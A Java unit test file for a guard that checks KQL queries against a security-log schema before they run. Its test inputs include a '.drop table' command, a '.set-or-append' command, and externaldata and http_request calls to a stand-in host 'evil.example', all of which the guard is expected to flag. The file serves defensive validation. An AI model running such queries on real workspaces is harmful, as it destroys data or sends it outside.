package io.secai.kql.guard;

import io.secai.kql.schema.SchemaFiles;
import io.secai.kql.schema.TableInfo;
import io.secai.kql.schema.WorkspaceSchema;
import org.junit.jupiter.api.Test;

import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class KqlGuardTest {
    private static final WorkspaceSchema SCHEMA = WorkspaceSchema.of(List.of(
            new TableInfo("SecurityIncident", "", SchemaFiles.parseCslColumns(
                    "TimeGenerated:datetime, IncidentNumber:int, Title:string, Severity:string, Status:string,"
                            + " AlertIds:dynamic"), List.of()),
            new TableInfo("SecurityAlert", "", SchemaFiles.parseCslColumns(
                    "TimeGenerated:datetime, SystemAlertId:string, AlertName:string, Entities:string,"
                            + " CompromisedEntity:string"), List.of()),
            new TableInfo("SigninLogs", "", SchemaFiles.parseCslColumns(
                    "TimeGenerated:datetime, UserPrincipalName:string, IPAddress:string, ResultType:string"),
                    List.of())));

    private final KqlGuard guard = new KqlGuard(SCHEMA, GuardOptions.defaults());

    @Test
    void refusesManagementCommands() {
        GuardReport report = guard.check(".drop table SecurityIncident");
        assertThat(report.passed()).isFalse();
        assertThat(report.flags()).singleElement().asString().contains("management commands");
        assertThat(guard.check("SecurityIncident | take 1;\n.set-or-append T <| SecurityIncident").passed())
                .isFalse();
    }

    @Test
    void refusesExternalDataAndOutboundPlugins() {
        assertThat(guard.check("externaldata (x:string) [@\"https://evil.example/x.csv\"]").flags())
                .anyMatch(f -> f.contains("externaldata"));
        assertThat(guard.check("SecurityIncident | evaluate http_request('https://evil.example')").flags())
                .anyMatch(f -> f.contains("http_request"));
        assertThat(guard.check("workspace('other').SecurityIncident | take 5").flags())
                .anyMatch(f -> f.contains("workspace()"));
    }

    @Test
    void wordsInsideStringsAndCommentsAreNotCommands() {
        GuardReport report = guard.check("""
                // externaldata is mentioned here only
                SecurityAlert
                | where AlertName has "externaldata .drop http_request"
                | take 5""");
        assertThat(report.flags()).isEmpty();
    }

    @Test
    void appendsRowCapWhenTheQueryHasNone() {
        GuardReport report = guard.check("SecurityIncident | where Status == 'New' // newest first");
        assertThat(report.rowCapAdded()).isTrue();
        assertThat(report.guardedQuery()).isEqualTo("SecurityIncident | where Status == 'New'\n| take 100"
                + " // newest first");
        assertThat(guard.check("SecurityIncident | top 5 by TimeGenerated").rowCapAdded()).isFalse();
        assertThat(guard.check("SecurityIncident | summarize count()").rowCapAdded()).isFalse();
        assertThat(guard.check("SecurityIncident | summarize count() by Severity").rowCapAdded()).isTrue();
    }

    @Test
    void flagsUnknownColumnsWithASuggestion() {
        GuardReport report = guard.check("SecurityIncident | where severity == 'High' | project Title, Owner");
        assertThat(report.flags()).containsExactly(
                "unknown column 'severity' (not in SecurityIncident); did you mean 'Severity'?",
                "unknown column 'Owner' (not in SecurityIncident)");
    }

    @Test
    void flagsUnknownTables() {
        GuardReport report = guard.check("SecurityIncidents | take 10");
        assertThat(report.flags()).containsExactly("unknown table 'SecurityIncidents'");
        assertThat(guard.check("securityincident | take 1").flags()).singleElement().asString()
                .contains("did you mean 'SecurityIncident'");
    }

    @Test
    void namesTheQueryDefinesAreNotFalseAlarms() {
        List<String> valid = List.of(
                """
                let alerts = SecurityIncident
                | where TimeGenerated > ago(30d)
                | summarize arg_max(TimeGenerated, *) by IncidentNumber
                | mv-expand AlertId = AlertIds to typeof(string)
                | project AlertId, IncidentNumber;
                SecurityAlert
                | join kind=inner (alerts) on $left.SystemAlertId == $right.AlertId
                | extend Upn = tolower(CompromisedEntity), Hour = bin(TimeGenerated, 1h)
                | summarize Alerts = dcount(SystemAlertId), count() by Upn, Hour
                | where count_ > 1 and Alerts > 0""",
                """
                union withsource=SourceTable SigninLogs, (SecurityAlert | project TimeGenerated, AlertName)
                | parse AlertName with Prefix ":" Rest
                | summarize by SourceTable, Prefix""",
                "SigninLogs | where UserPrincipalName in (dynamic([\"alice@contoso.com\", \"bob@contoso.com\"]))"
                        + " | project-rename Upn = UserPrincipalName | project Upn, ['IPAddress']",
                "SecurityAlert | extend e = parse_json(Entities) | mv-expand e | extend Name = tostring(e.Name)"
                        + " | where isnotempty(Name) | take 10");
        for (String query : valid) {
            assertThat(guard.check(query).flags()).as(query).isEmpty();
        }
        GuardReport report = guard.check(valid.get(0));
        assertThat(report.tables()).containsExactlyInAnyOrder("SecurityIncident", "SecurityAlert");
        assertThat(report.columns()).contains("IncidentNumber", "SystemAlertId", "CompromisedEntity");
    }

    @Test
    void unreadableQueriesAreFlaggedNotThrown() {
        assertThat(guard.check("SecurityIncident | where Title == 'unterminated").flags()).singleElement()
                .asString().contains("unterminated string");
        assertThat(guard.check("   ").flags()).containsExactly("the query is empty");
    }
}
